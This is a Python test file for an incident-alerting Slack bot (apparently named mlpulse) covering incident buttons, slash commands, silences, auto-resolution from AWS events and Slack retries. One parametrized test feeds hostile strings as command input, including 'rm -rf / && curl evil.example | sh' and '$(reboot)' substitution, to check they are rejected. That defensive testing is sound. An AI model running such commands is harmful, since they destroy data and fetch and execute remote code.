"""Incidents end to end: a started App, AWS events through its pipeline, clicks and
`/mlpulse` commands as signed HTTP requests, Slack played by the fake Web API server, time
by the fake clock. RELIABILITY C6, D2."""

from __future__ import annotations

import urllib.request
from datetime import timedelta
from typing import Any

import pytest

from bot.core.errors import StoreError
from bot.core.incident import State
from tests.goldens import readable
from tests.scenarios.conftest import MakeApp, sample
from tests.scenarios.test_incidents_support import (
    ACK,
    ADMIN,
    CHANNEL,
    RESOLVE,
    SNOOZE,
    Harness,
    failed_training_job,
    incident_controls,
    incident_line,
)


@pytest.fixture
def h(make_app: MakeApp) -> Harness:
    return make_app()


def open_training_incident(h: Harness, name: str = "churn-xgb-1") -> str:
    """A failed training job, accepted and delivered; the resource key."""
    (event,) = h.events(failed_training_job(name))
    assert h.submit(failed_training_job(name)) == 1
    h.deliver()
    return event.key


def alarm(state: str, minute: int, event_id: str) -> dict[str, Any]:
    """The published alarm sample in `state` at 17:MM on its day."""
    stamp = f"2019-10-02T17:{minute:02d}:40.989+0000"
    other = "OK" if state == "ALARM" else "ALARM"
    return sample(
        "cloudwatch-alarm-state-change-single-metric",
        {
            "id": event_id,
            "time": f"2019-10-02T17:{minute:02d}:40Z",
            "detail.state.value": state,
            "detail.state.timestamp": stamp,
            "detail.state.reason": f"Threshold Crossed: now {state}",
            "detail.previousState.value": other,
        },
    )


def pipeline_execution(state: str, execution: str, when: str, event_id: str) -> dict[str, Any]:
    return sample(
        "codepipeline-pipeline-execution-state-change-failed",
        {
            "id": event_id,
            "time": when,
            "detail.state": state,
            "detail.execution-id": execution,
        },
    )


def reminders(h: Harness, key: str) -> list[str]:
    return [m.text or "" for m in h.thread(key) if ":rotating_light:" in (m.text or "")]


# --- opening, and the three buttons


def test_a_failed_job_opens_an_incident_whose_root_carries_the_buttons(h: Harness) -> None:
    key = open_training_incident(h)

    (incident,) = h.store.unresolved_incidents()
    assert (incident.id, incident.state, incident.key) == (1, State.OPEN, key)
    assert incident.next_renotify_at == h.clock.now() + timedelta(minutes=30)
    (root,) = h.fake.roots(CHANNEL)
    assert root.ts == h.root(key).ts
    assert incident_line(root) == ":rotating_light: *Incident #1* · open since 03:00 UTC"
    assert incident_controls(root) == {
        ACK: ["1"],
        RESOLVE: ["1"],
        SNOOZE: ["1:3600", "1:14400", "1:86400"],
    }
    assert "Acknowledge" in root.all_text() and "Snooze 1d" in root.all_text()
    assert [(a["actor"], a["source"], a["action"]) for a in h.store.audit(1)] == [
        ("mlpulse", "auto", "open")
    ]


def test_acknowledge_updates_the_root_in_place_and_says_so_in_the_thread(h: Harness) -> None:
    key = open_training_incident(h)
    root_ts = h.root(key).ts
    h.clock.advance(125)

    token = h.click(ACK, "1", key=key, user="U1")
    h.wait_for(lambda: h.incident(1).state == State.ACKNOWLEDGED)
    assert h.deliver() == 1

    updates = h.fake.calls("chat.update")
    assert [(c.args["channel"], c.args["ts"]) for c in updates] == [(CHANNEL, root_ts)]
    root = h.root_message(key)
    assert incident_line(root) == ":eyes: *Incident #1* · acknowledged by <@U1> at 03:02 UTC"
    assert set(incident_controls(root)) == {RESOLVE, SNOOZE}  # nothing left to acknowledge
    (line,) = h.thread(key)
    assert line.text == ":eyes: Acknowledged by <@U1>."
    assert h.fake.responses(token) == []  # the message itself is the answer
    assert [(a["actor"], a["source"], a["action"], a["to_state"]) for a in h.store.audit(1)][
        1:
    ] == [("U1", "button", "ack", "acknowledged")]
    assert len(h.fake.roots(CHANNEL)) == 1

    # Acknowledged incidents are not re-notified.
    h.clock.advance(6 * 3600)
    assert h.app.incidents.tick() == 0


def test_resolve_then_acting_again_is_a_no_op_with_an_explanation(h: Harness) -> None:
    key = open_training_incident(h)
    h.click(RESOLVE, "1", key=key, user="U2")
    h.wait_for(lambda: h.incident(1).state == State.RESOLVED)
    h.deliver()

    root = h.root_message(key)
    assert (
        incident_line(root) == ":white_check_mark: *Incident #1* · resolved by <@U2> at 03:00 UTC"
    )
    assert incident_controls(root) == {}
    assert [m.text for m in h.thread(key)] == [":white_check_mark: Resolved by <@U2>."]
    audit_before = h.store.audit(1)
    updated = h.incident(1)

    for action, value in ((ACK, "1"), (RESOLVE, "1"), (SNOOZE, "1:3600")):
        token = h.click(action, value, key=key, user="U3", select=action == SNOOZE)
        answer = h.answer_to(token)
        assert answer["text"] == (
            "Incident #1 is already resolved by <@U2> at 03:00 UTC; nothing to do."
        )
        assert answer["response_type"] == "ephemeral"
        assert answer["replace_original"] is False
    assert h.incident(1) == updated
    assert h.store.audit(1) == audit_before
    assert h.deliver() == 0


def test_snooze_ends_with_a_broadcast_reminder_and_the_incident_open_again(h: Harness) -> None:
    key = open_training_incident(h)
    h.click(SNOOZE, "1:3600", key=key, user="U1", select=True)
    h.wait_for(lambda: h.incident(1).state == State.SNOOZED)
    h.deliver()
    assert h.incident(1).snoozed_until == h.clock.now() + timedelta(hours=1)
    assert incident_line(h.root_message(key)) == (
        ":zzz: *Incident #1* · snoozed by <@U1> until 04:00 UTC"
    )
    assert readable(h.thread(key)[-1].text or "") == ":zzz: Snoozed by <@U1> until 04:00 UTC (1h)."

    # The 30-minute reminder does not fire while snoozed; the snooze's end does.
    h.clock.advance(3599)
    assert h.app.incidents.tick() == 0
    h.clock.advance(1)
    assert h.app.incidents.tick() == 1
    assert h.incident(1).state == State.OPEN
    assert h.app.incidents.tick() == 0  # once
    h.deliver()

    reminder = h.thread(key)[-1]
    assert reminder.text == ":rotating_light: Snooze ended: incident #1, churn-xgb-1."
    (call,) = [c for c in h.fake.calls("chat.postMessage") if c.args.get("reply_broadcast")]
    assert call.args["thread_ts"] == h.root(key).ts
    line = incident_line(h.root_message(key))
    assert line is not None and line.startswith(":rotating_light: *Incident #1* · open since")
    assert ACK in incident_controls(h.root_message(key))


def test_unacknowledged_incidents_are_re_notified_up_to_the_max(make_app: MakeApp) -> None:
    h = make_app(
        incidents={"renotify_after": "10m", "max_renotify": 2},
        routes=[{"match": {"kind": "training_job"}, "mention": "@here"}],
    )
    key = open_training_incident(h)

    h.clock.advance(599)
    assert h.app.incidents.tick() == 0
    h.clock.advance(1)
    assert h.app.incidents.tick() == 1
    h.deliver()
    h.clock.advance(600)
    assert h.app.incidents.tick() == 1
    h.deliver()
    for _ in range(6):  # an hour more: the max is reached
        h.clock.advance(600)
        assert h.app.incidents.tick() == 0
    h.deliver()

    assert reminders(h, key) == [
        "<!here> :rotating_light: Still unacknowledged (reminder 1 of 2): incident #1, churn-xgb-1.",
        "<!here> :rotating_light: Still unacknowledged (reminder 2 of 2): incident #1, churn-xgb-1.",
    ]
    broadcasts = [c for c in h.fake.calls("chat.postMessage") if c.args.get("reply_broadcast")]
    assert len(broadcasts) == 2
    incident = h.incident(1)
    assert (incident.state, incident.renotify_count, incident.next_renotify_at) == (
        State.OPEN,
        2,
        None,
    )
    assert [a["action"] for a in h.store.audit(1)] == ["open", "renotify", "renotify"]


def test_a_reminder_stops_once_someone_acknowledges(make_app: MakeApp) -> None:
    h = make_app(incidents={"renotify_after": "10m", "max_renotify": 5})
    key = open_training_incident(h)
    h.clock.advance(600)
    assert h.app.incidents.tick() == 1
    assert h.command("ack 1")["text"] == "You acknowledged incident #1."
    h.clock.advance(3600)
    assert h.app.incidents.tick() == 0
    h.deliver()
    assert len(reminders(h, key)) == 1


@pytest.mark.parametrize("max_renotify", [0, 1])
def test_a_snooze_ending_after_the_last_reminder_does_not_go_past_the_max(
    make_app: MakeApp, max_renotify: int
) -> None:
    h = make_app(incidents={"renotify_after": "10m", "max_renotify": max_renotify})
    key = open_training_incident(h)
    for _ in range(max_renotify):
        h.clock.advance(600)
        assert h.app.incidents.tick() == 1
    assert h.command("snooze 1 1h")["text"] == "You snoozed incident #1 for 1h."
    h.clock.advance(3600)
    assert h.app.incidents.tick() == 1  # the snooze ends with a reminder
    for _ in range(12):
        h.clock.advance(600)
        assert h.app.incidents.tick() == 0, "a reminder beyond incidents.max_renotify"
    h.deliver()
    texts = reminders(h, key)
    assert len(texts) == max_renotify + 1
    assert texts[-1] == ":rotating_light: Snooze ended: incident #1, churn-xgb-1."


# --- recovery resolves by itself


def test_an_alarm_back_to_ok_resolves_its_incident_and_the_root_says_so(h: Harness) -> None:
    (firing,) = h.events(alarm("ALARM", 4, "alarm-1"))
    assert h.submit(alarm("ALARM", 4, "alarm-1")) == 1
    h.deliver()
    assert h.incident(1).state == State.OPEN
    assert incident_line(h.root_message(firing.key)) is not None

    h.clock.advance(600)
    assert h.submit(alarm("OK", 24, "alarm-2")) == 1
    resolved = h.incident(1)
    assert (resolved.state, resolved.actor) == (State.RESOLVED, "mlpulse")
    assert resolved.note == "recovered: ServerCpuTooHigh is OK"
    h.deliver()

    root = h.root_message(firing.key)
    assert len(h.fake.roots(CHANNEL)) == 1
    assert root.text is not None and "CloudWatch alarm back to OK: ServerCpuTooHigh" in root.text
    assert incident_line(root) == (
        ":white_check_mark: *Incident #1* · resolved automatically at 03:10 UTC"
        " (recovered: ServerCpuTooHigh is OK)"
    )
    assert incident_controls(root) == {}
    texts = [m.text for m in h.thread(firing.key)]
    assert ":white_check_mark: Resolved automatically: recovered: ServerCpuTooHigh is OK." in texts
    assert [(a["actor"], a["source"], a["action"]) for a in h.store.audit(1)] == [
        ("mlpulse", "auto", "open"),
        ("mlpulse", "auto", "auto_resolve"),
    ]

    # A resolve after the auto-resolve is a no-op with the reason.
    token = h.click(RESOLVE, "1", key=firing.key, user="U1")
    assert h.answer_to(token)["text"] == (
        "Incident #1 is already resolved by mlpulse at 03:10 UTC"
        " (recovered: ServerCpuTooHigh is OK); nothing to do."
    )
    assert h.incident(1) == resolved

    # It fires again: a new incident on the same root message.
    h.clock.advance(600)
    assert h.submit(alarm("ALARM", 44, "alarm-3")) == 1
    h.deliver()
    assert [i.id for i in h.store.unresolved_incidents()] == [2]
    assert incident_controls(h.root_message(firing.key))[ACK] == ["2"]


def test_an_ok_older_than_the_alarm_does_not_resolve_it(h: Harness) -> None:
    """Events arrive out of order (RELIABILITY B3): the recovery that came before the
    failure is no recovery from it."""
    assert h.submit(alarm("ALARM", 24, "alarm-late")) == 1
    assert h.submit(alarm("OK", 4, "alarm-early")) == 1
    assert h.incident(1).state == State.OPEN
    h.deliver()
    assert h.store.unresolved_incidents() != []


def test_a_later_successful_run_of_the_pipeline_resolves_the_failed_one(h: Harness) -> None:
    failed = pipeline_execution("FAILED", "exec-1", "2020-01-31T18:55:43Z", "cp-1")
    (failure,) = h.events(failed)
    assert h.submit(failed) == 1
    h.deliver()
    assert h.incident(1).state == State.OPEN

    # A stage of the next run succeeding is not the pipeline recovering.
    stage = sample(
        "codepipeline-stage-execution-state-change-started",
        {
            "id": "cp-2",
            "region": "us-west-2",
            "detail.state": "SUCCEEDED",
            "detail.execution-id": "exec-2",
            "time": "2020-01-31T19:10:00Z",
        },
    )
    assert h.submit(stage) == 1
    assert h.incident(1).state == State.OPEN

    later = pipeline_execution("SUCCEEDED", "exec-2", "2020-01-31T19:20:00Z", "cp-3")
    (success,) = h.events(later)
    assert success.key != failure.key and success.series == failure.series
    assert h.submit(later) == 1
    assert h.incident(1).state == State.RESOLVED
    h.deliver()

    line = incident_line(h.root_message(failure.key))
    assert line is not None and "resolved automatically" in line
    assert "recovered: myPipeline is Succeeded" in line
    assert incident_line(h.root_message(success.key)) is None
    assert any("Resolved automatically" in (m.text or "") for m in h.thread(failure.key))


def test_an_endpoint_back_in_service_resolves_its_incident(h: Harness) -> None:
    failed = sample(
        "sagemaker-endpoint-state-change-in-service",
        {"id": "ep-1", "detail.EndpointStatus": "FAILED", "time": "2026-11-25T02:50:00Z"},
    )
    back = sample(
        "sagemaker-endpoint-state-change-in-service",
        {"id": "ep-2", "time": "2026-11-25T02:58:00Z"},
    )
    assert h.submit(failed) == 1
    h.deliver()
    assert h.incident(1).state == State.OPEN
    assert h.submit(back) == 1
    assert h.incident(1).state == State.RESOLVED
    h.deliver()
    (event,) = h.events(back)
    line = incident_line(h.root_message(event.key))
    assert line is not None and "(recovered: MyEndpoint is In service)" in line


# --- buttons that do not belong


def test_forged_and_foreign_clicks_are_refused_and_change_nothing(h: Harness) -> None:
    key = open_training_incident(h)
    other_key = open_training_incident(h, "churn-xgb-2")
    root = h.root(key)
    before, audit_before = h.incident(1), h.store.audit(1)
    h.fake.add_channel("C0OTHER", "other")
    cases: list[tuple[str, dict[str, Any], str]] = [
        (ACK, {"value": "999", "key": key}, "There is no incident #999."),
        (ACK, {"value": "1", "channel": "C0ALERTS", "message_ts": root.ts}, "does not belong"),
        (ACK, {"value": "1", "channel": "C0OTHER", "message_ts": root.ts}, "does not belong"),
        (ACK, {"value": "1", "key": other_key}, "does not belong"),  # incident #2's message
        (ACK, {"value": "1", "message_ts": "1795575600.999999"}, "does not belong"),
        (ACK, {"value": "1", "channel": None, "message_ts": root.ts}, "does not belong"),
        (ACK, {"value": "1"}, "does not belong"),  # no container: not from a message
        (RESOLVE, {"value": "1", "channel": "C0ALERTS", "message_ts": root.ts}, "does not belong"),
        (ACK, {"value": "abc", "key": key}, "That button is not valid."),
        (ACK, {"value": "-1", "key": key}, "That button is not valid."),
        (ACK, {"value": "1:3600", "key": key}, "That button is not valid."),
        (RESOLVE, {"value": "", "key": key}, "That button is not valid."),
        (SNOOZE, {"value": "1", "key": key, "select": True}, "That button is not valid."),
        (SNOOZE, {"value": "1:30", "key": key, "select": True}, "That button is not valid."),
        (SNOOZE, {"value": "1:9999999", "key": key, "select": True}, "That button is not valid."),
        (
            SNOOZE,
            {"value": "1:99999999999999999999999", "key": key, "select": True},
            "That button is not valid.",
        ),
        (ACK, {"value": "1²", "key": key}, "That button is not valid."),
        (ACK, {"value": "²", "key": key}, "That button is not valid."),
        (ACK, {"value": "9" * 5000, "key": key}, "That button is not valid."),
        (ACK, {"value": "99999999999999999999999", "key": key}, "That button is not valid."),
        (ACK, {"value": "9223372036854775808", "key": key}, "That button is not valid."),
        (ACK, {"value": "922337203685477580", "key": key}, "There is no incident #"),
        (ACK, {"value": "0", "key": key}, "There is no incident #0."),
    ]
    for action, options, expected in cases:
        token = h.click(action, user="U9", **options)
        answer = h.answer_to(token)
        assert expected in answer["text"], (action, options, answer)
        assert answer["response_type"] == "ephemeral"
    assert h.incident(1) == before
    assert h.store.audit(1) == audit_before
    assert h.incident(2).state == State.OPEN
    assert h.deliver() == 0


# --- /mlpulse commands for incidents


def test_incident_commands_act_like_the_buttons(h: Harness) -> None:
    assert h.command("incidents")["text"] == ":white_check_mark: No open incidents."
    key = open_training_incident(h)
    open_training_incident(h, "churn-xgb-2")

    listing = h.command("incidents")
    assert listing["response_type"] == "ephemeral"
    lines = listing["text"].splitlines()
    assert lines[0] == "*2 incident(s) not resolved:*"
    assert lines[1].startswith(":rotating_light: *Incident #2*") and "churn-xgb-2" in lines[1]
    assert lines[2].startswith(":rotating_light: *Incident #1*") and "churn-xgb-1" in lines[2]

    assert h.command("ack 1", user="U1")["text"] == "You acknowledged incident #1."
    assert h.command("ack #1", user="U2")["text"] == (
        "Incident #1 was already acknowledged by <@U1> at 03:00 UTC."
    )
    assert h.command("snooze 1 2h", user="U2")["text"] == "You snoozed incident #1 for 2h."
    assert h.incident(1).snoozed_until == h.clock.now() + timedelta(hours=2)
    assert h.command("resolve 1", user="U3")["text"] == "You resolved incident #1."
    assert h.command("resolve 1", user="U1")["text"] == (
        "Incident #1 is already resolved by <@U3> at 03:00 UTC; nothing to do."
    )
    assert h.command("ack 7")["text"].startswith("There is no incident #7.")
    assert "is not an incident number" in h.command("ack two")["text"]
    assert "is not an incident number" in h.command("ack ²")["text"]
    assert "There is no incident #" in h.command("resolve 99999999999999999999999")["text"]
    assert "which incident?" in h.command("ack")["text"]
    assert "for how long?" in h.command("snooze 2")["text"]
    assert "between 1m and 30d" in h.command("snooze 2 31d")["text"]
    assert "between 1m and 30d" in h.command("snooze 2 99999999999999999999999d")["text"]
    assert "not a duration" in h.command("snooze 2 soon")["text"]

    h.deliver()
    texts = [readable(m.text or "") for m in h.thread(key)]
    assert texts == [
        ":eyes: Acknowledged by <@U1>.",
        ":zzz: Snoozed by <@U2> until 05:00 UTC (2h).",
        ":white_check_mark: Resolved by <@U3>.",
    ]
    line = incident_line(h.root_message(key))
    assert line == ":white_check_mark: *Incident #1* · resolved by <@U3> at 03:00 UTC"
    assert [(a["actor"], a["source"], a["action"]) for a in h.store.audit(1)] == [
        ("mlpulse", "auto", "open"),
        ("U1", "command", "ack"),
        ("U2", "command", "snooze"),
        ("U3", "command", "resolve"),
    ]
    assert h.incident(2).state == State.OPEN
    public = h.command("incidents --public")
    assert public["response_type"] == "in_channel"
    assert "*1 incident(s) not resolved:*" in public["text"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "frobnicate",
        "x" * 4000,
        "ack 1; rm -rf / && curl evil.example | sh",
        "$(reboot) `id` <!channel> &amp; > <",
        "incidents --bogus",
        "jobs --status",
        "\u202eack 1",
    ],
    ids=["empty", "blank", "unknown", "4000-chars", "shell", "markup", "flag", "no-value", "bidi"],
)
def test_malformed_commands_get_a_short_ephemeral_help(h: Harness, text: str) -> None:
    answer = h.command(text)
    assert answer["response_type"] == "ephemeral"
    assert "/mlpulse help" in answer["text"] or "*mlpulse* answers" in answer["text"]
    assert "<!channel>" not in answer["text"]
    assert "went wrong" not in answer["text"]
    assert len(answer["text"]) < 4000
    assert h.store.unresolved_incidents() == []


# --- silences


def test_a_silence_holds_back_matching_alerts_counts_them_and_is_announced(
    make_app: MakeApp,
) -> None:
    h = make_app(incidents={"max_renotify": 0})  # only the silence's own notices are due
    answer = h.command("silence churn-* 2h", user=ADMIN)
    assert answer["text"] == (
        "Silenced `churn-*` until 2026-11-25 05:00 UTC."
        " Matching alerts are stored and counted, not posted."
    )
    h.deliver()
    (announcement,) = h.fake.roots(CHANNEL)
    assert readable(announcement.text or "") == (
        f":no_bell: <@{ADMIN}> silenced `churn-*` for 2h (until 2026-11-25 05:00 UTC)."
    )

    assert h.submit(failed_training_job("churn-xgb-7")) == 1
    assert h.submit(failed_training_job("churn-xgb-8")) == 1
    assert h.submit(failed_training_job("fraud-lgbm-1")) == 1  # not silenced
    h.deliver()
    roots = [m.all_text() for m in h.fake.roots(CHANNEL)]
    assert len(roots) == 2 and "fraud-lgbm-1" in roots[1]
    assert not any("churn-xgb-7" in text or "churn-xgb-8" in text for text in roots)
    assert [i.title for i in h.store.unresolved_incidents()] == ["fraud-lgbm-1"]
    held = h.app.metrics.registry.get_sample_value(
        "mlpulse_events_silenced_total", {"kind": "training_job"}
    )
    assert held == 2.0
    listing = h.command("silences")["text"]
    assert "*1 silence(s) in force:*" in listing
    assert f"`churn-*` until 2026-11-25 05:00 UTC, set by <@{ADMIN}>, 2 alert(s) held" in listing
    assert h.submit(failed_training_job("churn-xgb-7")) == 0  # stored: a redelivery is a dup

    h.clock.advance(2 * 3600 - 1)
    assert h.app.incidents.tick() == 0
    h.clock.advance(1)
    assert h.app.incidents.tick() == 1
    assert h.app.incidents.tick() == 0  # announced once
    h.deliver()
    assert h.fake.roots(CHANNEL)[-1].text == (
        ":bell: Silence on `churn-*` ended; 2 alert(s) were held."
    )
    assert h.command("silences")["text"] == "No silences in force."

    assert h.submit(failed_training_job("churn-xgb-9")) == 1
    h.deliver()
    assert "churn-xgb-9" in h.fake.roots(CHANNEL)[-1].all_text()
    assert [i.title for i in h.store.unresolved_incidents()] == ["fraud-lgbm-1", "churn-xgb-9"]


def test_a_silence_by_kind(h: Harness) -> None:
    assert "Silenced `kind:alarm`" in h.command("silence kind:alarm 30m", user=ADMIN)["text"]
    assert h.submit(alarm("ALARM", 4, "alarm-1")) == 1
    assert h.submit(failed_training_job()) == 1
    h.deliver()
    texts = [m.all_text() for m in h.fake.roots(CHANNEL)]
    assert len(texts) == 2  # the announcement and the training job
    assert not any("ServerCpuTooHigh" in text for text in texts)


def test_silence_is_for_admins_and_a_refusal_is_audited(h: Harness) -> None:
    answer = h.command("silence churn-* 2h", user="U2")
    assert answer["response_type"] == "ephemeral"
    assert answer["text"].startswith("You may not run `silence`: it is for admins")
    assert f"<@{ADMIN}>" in answer["text"]
    assert h.store.active_silences(h.clock.now()) == []
    refusals = h.store._db.execute(
        "SELECT actor, source, action, note FROM audit WHERE action = 'refused'"
    ).fetchall()
    assert refusals == [("U2", "command", "refused", "/mlpulse silence")]
    h.deliver()
    assert h.fake.roots(CHANNEL) == []
    assert h.command("silences", user="U2")["text"] == "No silences in force."
    for bad in ("silence", "silence churn-*", "silence churn-* forever", "silence churn-* 0m"):
        text = h.command(bad, user=ADMIN)["text"]
        assert "Usage" in text or "between 1m and 30d" in text, (bad, text)
    assert h.store.active_silences(h.clock.now()) == []


def test_a_recovery_during_a_silence_still_resolves_the_incident(h: Harness) -> None:
    (firing,) = h.events(alarm("ALARM", 4, "alarm-1"))
    h.submit(alarm("ALARM", 4, "alarm-1"))
    h.deliver()
    h.command("silence ServerCpu* 1h", user=ADMIN)
    assert h.submit(alarm("OK", 24, "alarm-2")) == 1
    assert h.incident(1).state == State.RESOLVED
    h.deliver()
    line = incident_line(h.root_message(firing.key))
    assert line is not None and "resolved automatically" in line


# --- Slack's retries


def test_a_retried_command_is_handled_once(h: Harness) -> None:
    body = h.command_body("silence churn-* 2h", user=ADMIN, token="silence")
    first = h.post(body)
    assert first.status == 200 and "Silenced" in h.answer_to("silence")["text"]
    retry = h.post(body, {"X-Slack-Retry-Num": "1", "X-Slack-Retry-Reason": "http_timeout"})
    assert retry.status == 200
    assert retry.headers.get("x-slack-no-retry") == "1"
    assert len(h.store.active_silences(h.clock.now())) == 1
    # The same words typed again are a new command (Slack sends a new body), not a retry.
    assert "Silenced" in h.command("silence churn-* 2h", user=ADMIN)["text"]
    assert len(h.store.active_silences(h.clock.now())) == 2


def test_a_retried_click_is_handled_once(h: Harness) -> None:
    key = open_training_incident(h)
    token = h.new_token()
    body = h.click_body(ACK, "1", message_ts=h.root(key).ts, token=token, user="U1")
    assert h.post(body).status == 200
    h.wait_for(lambda: h.incident(1).state == State.ACKNOWLEDGED)
    retry = h.post(body, {"X-Slack-Retry-Num": "2", "X-Slack-Retry-Reason": "http_timeout"})
    assert (retry.status, retry.headers.get("x-slack-no-retry")) == (200, "1")
    # Had the retry run, its refusal ("already acknowledged") would be posted back; a later
    # click shows the worker has moved on.
    probe = h.click(ACK, "999", key=key)
    h.answer_to(probe)
    assert h.fake.responses(token) == []
    assert [a["action"] for a in h.store.audit(1)] == ["open", "ack"]


def test_metrics_count_open_incidents(h: Harness) -> None:
    open_training_incident(h)
    open_training_incident(h, "churn-xgb-2")
    assert h.command("ack 2")["text"] == "You acknowledged incident #2."
    assert h.app.http is not None
    with urllib.request.urlopen(f"http://127.0.0.1:{h.app.http.port}/metrics", timeout=5) as page:
        text = page.read().decode()
    assert "mlpulse_open_incidents 2.0" in text


def test_a_click_the_store_cannot_take_is_answered_politely(
    h: Harness, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = open_training_incident(h)

    def locked(*args: object, **kwargs: object) -> None:
        raise StoreError("SQLite store mlpulse.db: database is locked")

    with monkeypatch.context() as patched:
        patched.setattr(h.app.store, "transition", locked)
        token = h.click(ACK, "1", key=key)
        assert h.answer_to(token)["text"] == (
            "Sorry, that did not go through on our side; nothing changed. Please try again."
        )
    assert h.incident(1).state == State.OPEN
    h.click(ACK, "1", key=key)
    h.wait_for(lambda: h.incident(1).state == State.ACKNOWLEDGED)
